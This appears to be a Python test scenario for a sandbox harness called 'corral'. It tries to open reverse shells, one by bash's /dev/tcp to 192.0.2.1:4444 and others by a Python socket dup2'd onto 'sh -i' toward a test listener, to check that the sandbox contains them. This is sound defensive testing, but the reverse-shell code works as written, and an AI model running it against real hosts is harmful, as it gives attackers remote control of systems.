"""reverse-shell: a shell whose stdin and stdout are a connection out.

Attack:
  - bash's `/dev/tcp/192.0.2.1/4444` with `bash -i` on it (TEST-NET-1,
    directly), when bash exists;
  - a Python socket to 192.0.2.1:4444 directly, dup2'd onto `sh -i`;
  - a Python socket to the runner's listener (c2.verify.test, its name
    allowed) through corral's HTTP proxy, dup2'd onto `sh -i`. The
    listener sends `echo CORRAL-C2-$((6*7))` and records whether
    `CORRAL-C2-42` came back: a shell that answered is a breach.
Twin: a Python subprocess with pipes (`subprocess.run` of a shell
command, its output read back), the way every agent runs tools.

Safe: the listener is the runner's own on 127.0.0.1 and sends only the
echo and `exit`; 192.0.2.1 is only tried when the sandbox has nothing but
loopback; every shell is killed after 5 s.

Contained: no shell answered the listener (the proxy refused the
session's first bytes, the direct paths had no route), or corral ended the
run on a finding (`shell.reverse`, `tunnel.*`).
"""

import os
import subprocess
import time

import corral_scenario as cs


def shell_on(sock):
    """Runs `sh -i` with stdin, stdout and stderr on the socket; waits up to 5 s."""
    pid = os.fork()
    if pid == 0:
        try:
            fd = sock.fileno()
            for target in (0, 1, 2):
                os.dup2(fd, target)
            os.execv("/bin/sh", ["sh", "-i"])
        finally:
            os._exit(127)
    sock.close()
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        done, status = os.waitpid(pid, os.WNOHANG)
        if done:
            return status
        time.sleep(0.05)
    os.kill(pid, 9)
    os.waitpid(pid, 0)
    return None


def attack():
    cs.begin()
    bash = cs.which("bash")
    if bash is None:
        cs.skipped("bash -i >& /dev/tcp/192.0.2.1/4444", "no bash in the sandbox")
    else:
        def dev_tcp():
            if not cs.isolated():
                raise cs.Breach("not attempted: the sandbox has interfaces besides loopback")
            p = subprocess.run([bash, "-c", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"],
                               stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, timeout=8)
            err = p.stderr.decode("utf-8", "replace").strip().splitlines()
            if p.returncode != 0:
                raise cs.Refused("bash: " + (err[-1] if err else "exit %d" % p.returncode), by="netns")
            return "bash exited 0"
        cs.attempt("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", dev_tcp)

    def direct():
        s = cs.direct_connect("192.0.2.1", 4444)
        shell_on(s)
        return "connected; shell ran on the socket"

    cs.attempt("python socket to 192.0.2.1:4444 directly, dup2 onto sh -i", direct)

    host, port = cs.target("c2")
    name = "python socket to %s:%d through the proxy, dup2 onto sh -i" % (host, port)
    t = time.time()
    try:
        s = cs.proxy_connect(host, port)
    except cs.Refused as r:
        cs.step(name, "refused", t, by=r.by, detail=r.detail)
    except OSError as e:
        cs.step(name, "refused", t, errno=e.errno, detail=os.strerror(e.errno or 0))
    else:
        s.settimeout(None)
        shell_on(s)
        # Only the listener knows whether the shell answered it.
        cs.step(name, "pending", t, check="c2", detail="the tunnel opened; the listener decides")
    cs.end()


def twin():
    cs.begin()

    def pipes():
        p = subprocess.run(["/bin/sh", "-c", "read x; echo \"got $x $((6*7))\""],
                           input=b"hello\n", stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                           timeout=10)
        return p.stdout.decode().strip()

    cs.attempt("subprocess with pipes: sh -c 'read x; echo ...'", pipes)
    cs.end()


if __name__ == "__main__":
    attack() if cs.MODE == "attack" else twin()
